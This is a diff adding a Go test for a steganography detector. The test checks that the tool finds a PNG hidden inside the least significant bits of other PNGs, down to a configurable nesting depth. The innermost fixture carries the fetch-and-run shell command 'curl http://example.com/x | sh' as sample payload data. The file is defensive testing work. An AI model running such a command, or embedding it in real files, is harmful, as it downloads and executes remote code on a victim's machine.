@@ -0,0 +1,73 @@
+package main
+
+import (
+	"io"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"DeSteGo/internal/fixtures"
+	"DeSteGo/pkg/analyzer"
+	"DeSteGo/pkg/c2"
+	"DeSteGo/pkg/extractor"
+	"DeSteGo/pkg/rules"
+)
+
+func TestAnalyzeNested(t *testing.T) {
+	// A small PNG with a shell command after IEND, hidden in the LSBs of a
+	// larger PNG, which is hidden in the LSBs of a larger one again
+	inner, err := fixtures.Encode(fixtures.Carrier(16, 16, 1), "png")
+	if err != nil {
+		t.Fatal(err)
+	}
+	payload := append(inner, "curl http://example.com/x | sh\n"...)
+	for i, size := range []int{64, 256} {
+		img := fixtures.Carrier(size, size, int64(i+2))
+		if err := fixtures.EmbedLSB(img, payload, []int{0, 1, 2}, 0); err != nil {
+			t.Fatal(err)
+		}
+		if payload, err = fixtures.Encode(img, "png"); err != nil {
+			t.Fatal(err)
+		}
+	}
+	path := filepath.Join(t.TempDir(), "nested.png")
+	if err := os.WriteFile(path, payload, 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name  string
+		depth int
+		chain int // Files in the reported chain, 0 for no nested finding
+	}{
+		{"disabled", 0, 0},
+		{"one level", 1, 2},
+		{"default depth", defaultNestDepth, 3},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			registry := analyzer.NewRegistry()
+			registerAnalyzers(registry)
+			extractors := extractor.NewRegistry()
+			registerExtractors(extractors)
+			cfg := &scanConfig{registry: registry, extractors: extractors, c2: c2.NewDetector(), rules: rules.Default(),
+				format: "auto", sequential: true, extract: true, outputDir: t.TempDir(), nestDepth: tt.depth}
+			result := analyzeFile(path, cfg, NewLogger(io.Discard), nil)
+			if result == nil {
+				t.Fatal("analysis failed")
+			}
+
+			chain, _ := result.Details["nesting_chain"].([]string)
+			if len(chain) != tt.chain {
+				t.Errorf("got nesting chain %q, want %d files", chain, tt.chain)
+			}
+			nested := false
+			for _, finding := range result.Findings {
+				nested = nested || finding.Description == "Extracted payload is an image with hidden data of its own"
+			}
+			if nested != (tt.chain > 0) {
+				t.Errorf("nested finding %v, want %v", nested, tt.chain > 0)
+			}
+		})
+	}
+}